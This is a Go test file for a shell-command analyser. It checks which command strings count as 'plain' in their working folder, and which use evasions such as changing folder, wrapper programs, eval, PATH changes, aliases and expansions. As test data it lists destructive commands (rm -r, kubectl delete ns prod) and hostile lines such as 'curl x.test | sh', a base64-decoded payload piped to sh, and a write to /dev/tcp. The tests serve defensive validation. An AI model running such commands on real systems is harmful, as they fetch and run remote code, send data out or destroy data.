package facts

import "testing"

func TestPlainTextMeansTheSameInItsFolder(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"rm -r build", "rm -r ./build /etc/x ~/y $HOME/z", "/bin/rm -r build", "rm -r build && ls", "rm -r a; rm -r b || echo no",
		"'rm' -r \"build\"",
		"git push --force origin main", "cat a | grep b | sort", "make_it > out 2>&1 < in", "kubectl delete ns prod",
		"if test -d a; then rm -r a; fi", "! rm -r {a,b}",
	} {
		if !Plain(Shell(text, work)) {
			t.Errorf("%s is not plain", text)
		}
	}
}

func TestWhatCanMeanAnotherThingInTheSameFolderIsNotPlain(t *testing.T) {
	t.Parallel()
	for evasion, texts := range (ways{
		"another folder": {"cd ..; rm -r build", "(cd V && ls); rm -r build", "pushd V && rm -r build", "popd; rm -r build",
			"CDPATH=/x; cd a; rm -r build"},
		"another folder of one program": {"git -C .. rm -r build", "git -C.. rm x", "git --git-dir=../.git push",
			"git --work-tree .. clean -f", "git --work-t=.. clean -f",
			"git -c core.worktree=.. clean -f", "make -C .. clean", "make --dir=.. clean", "tar -C .. -xf a", "tar xCf .. a",
			"tar --cd .. -xf a", "npm --prefix .. test",
			"terraform -chdir=../x destroy", "ninja -C/work/other/folder", "docker compose --project-directory .. down"},
		"a program before it": {"env -C .. rm -r build", "env rm -r build", "sudo -D .. rm -r build", "sudo rm -r build",
			"chroot / rm -r build", "busybox rm -r build", "nice rm -r build",
			"timeout 5 rm -r build", "find . -execdir rm -r build +", "echo build | xargs rm -r", "parallel --wd .. rm -r ::: build",
			"command rm -r build", "command -p rm -r build",
			"exec -a x rm -r build", "exec rm -r build", "builtin cd ..", "ssh h rm -r build", "docker exec c rm -r build",
			"nohup rm -r build"},
		"a text within": {"sh -c 'rm -r build'", "echo 'rm -r build' | sh", "eval rm -r build",
			"python3 -c 'import shutil; shutil.rmtree(\"build\")'", "python3 -c 1; rm -r build", "trap 'rm -r build' EXIT"},
		"a file that runs": {". ./x.sh; rm -r build", "source x.sh; rm -r build", "./x; rm -r build", "../bin/rm -r build",
			"/usr/bin/../../work/rm -r build", "sh x.sh; rm -r build", "sh < x.sh", "python3 x.py; rm -r build", "~/bin/rm -r build"},
		"a variable set": {"PATH=V:$PATH; rm -r build", "PATH=V rm -r build", "export PATH=V; rm -r build", "export PATH; rm x",
			"unset PATH; rm x", "read PATH; rm x", "printf -v PATH V; rm x", "echo ${PATH:=V}; rm x", "((PATH=1)); rm x",
			"HOME=/x; rm -r ~/build", "GIT_DIR=x git push"},
		"a name redefined": {"rm() { ls V; }; rm -r build", "function rm { ls V; }; rm -r build", "alias rm='ls'; rm -r build",
			"unalias rm; rm x", "hash -p ./x rm; rm -r build", "enable -f ./x.so rm; rm x", "shopt -s expand_aliases; rm x",
			"set -o physical; rm x"},
		"what is filled in": {"rm -r $X", "rm -r \"$X/build\"", "rm -r ${X:-build}", "rm -r $(cat x)", "rm -r `cat x`", "rm -r build*",
			"rm -r b?", "rm -r b[ab]", "rm -r ~bob/x", "cat <(ls)", "cat < *.x", "ls > $X", "cat <<E\nrm\nE", "cat <<< x", "rm -r ~-/x"},
		"another course": {"(rm -r build)", "for x in build; do rm -r $x; done", "while :; do rm -r build; done", "rm -r build &",
			"coproc rm -r build", "$X build", "rm -r build; eval \"$X\"", "curl x.test | sh", "echo bHM= | base64 -d | sh", "rm -r (",
			"echo x > /dev/tcp/x.test/80"},
	}) {
		for _, text := range texts {
			if Plain(Shell(text, work)) {
				t.Errorf("%s is plain, in spite of %s", text, evasion)
			}
		}
	}
}
